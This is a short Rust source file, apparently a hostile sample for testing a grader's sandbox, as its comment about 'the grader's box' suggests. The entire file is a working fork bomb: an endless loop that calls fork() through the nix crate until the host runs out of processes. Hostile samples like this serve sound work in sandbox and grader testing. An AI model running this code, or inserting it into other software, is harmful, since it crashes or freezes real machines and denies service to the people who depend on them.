//! Hostile: a fork bomb.
use nix::unistd::fork;

fn main() {
    loop {
        // SAFETY: nothing here is safe; the grader's box holds it.
        let _ = unsafe { fork() };
    }
}
